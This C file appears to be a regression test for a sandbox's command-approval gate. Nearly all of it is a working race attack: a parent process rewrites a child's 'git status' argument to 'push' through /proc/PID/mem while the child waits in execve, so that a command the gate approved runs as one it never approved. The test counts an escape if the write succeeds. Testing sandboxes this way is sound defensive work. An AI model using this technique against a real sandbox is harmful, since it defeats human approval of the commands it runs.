/* ATTACK: get a program an exec.approve rule holds run without approval: the caller's parent, another process of the same user, writes "push" over argv[1] "status" through /proc/PID/mem in a tight loop while the caller, alone with its memory, is stopped in execve | LAYER: exec gate: with exec.approve the sandbox's /proc is a read-only mount, so no process can open another's /proc/PID/mem for writing (EROFS) | REF: seccomp_unotify(2) (SECCOMP_USER_NOTIF_FLAG_CONTINUE) */
#include "exec_gate.h"

/* One try: a child waits for the word, then execs "git status" with its
 * argument on its own heap (private and anonymous: the gate accepts it);
 * the parent writes "push" there now and then and "status" in between,
 * until the child has exec'd or failed. The gate reads "status" most of
 * the time and lets it go on; a "push" the kernel reads afterwards runs.
 * One write in eight is a "push": a try the gate sees as a push is held,
 * and waits out the session's short timeout. */
static int try_once(const char *prog, int *ret_opened)
{
	char *arg = malloc(16);
	if (!arg)
		BROKEN("malloc");
	memcpy(arg, "status", 7);
	int go[2];
	if (pipe(go) < 0)
		BROKEN("pipe: %s", strerror(errno));
	pid_t pid = fork();
	if (pid < 0)
		BROKEN("fork: %s", strerror(errno));
	if (pid == 0) {
		char c;
		close(go[1]);
		if (read(go[0], &c, 1) != 1)
			_exit(99);
		char *argv[] = {"git", arg, NULL};
		execv(prog, argv);
		_exit(100 + errno);
	}
	close(go[0]);
	char p[64];
	snprintf(p, sizeof(p), "/proc/%d/mem", (int)pid);
	int mem = open(p, O_RDWR | O_CLOEXEC);
	int open_errno = errno;
	*ret_opened = mem >= 0;
	if (write(go[1], "x", 1) != 1)
		BROKEN("write: %s", strerror(errno));
	close(go[1]);
	if (mem >= 0) {
		for (unsigned k = 0;; k++) {
			const char *s = (k & 7) == 0 ? "push\0\0" : "status";
			if (pwrite(mem, s, 6, (off_t)(uintptr_t)arg) != 6)
				break; /* the child exec'd or died: its old memory is gone */
		}
		close(mem);
	} else if (open_errno != EROFS && open_errno != EACCES && open_errno != EPERM) {
		BROKEN("open %s: %s", p, strerror(open_errno));
	}
	free(arg);
	return gate_wait(pid);
}

int main(void)
{
	const char *prog = need_env("MOAT_GATE_PROGRAM"), *log = need_env("MOAT_GATE_LOG");
	int eperm = 0, ran = 0, other = 0, opened = 0;
	for (int i = 0; i < GATE_TRIES; i++) {
		int o = 0;
		int rc = try_once(prog, &o);
		opened += o;
		if (rc == 100 + EPERM)
			eperm++;
		else if (rc == 0)
			ran++;
		else
			other++;
	}
	printf("# %d tries: /proc/PID/mem opened for writing %d times; %d refused with EPERM, %d ran, %d other\n",
	       GATE_TRIES, opened, eperm, ran, other);
	if (gate_push_ran(log))
		ESCAPED("a push ran that no one approved (the kernel read what the peer wrote after the gate's check)");
	if (opened)
		ESCAPED("a process of the sandbox opened another's /proc/PID/mem for writing %d times (no push won the "
			"race this time, but it can also rewrite the program's code once it runs)",
			opened);
	if (ran == 0)
		BROKEN("no \"git status\" ran: did the tries run at all?");
	BLOCKED("/proc/PID/mem cannot be opened for writing; %d \"git status\" ran as asked, no push", ran);
}
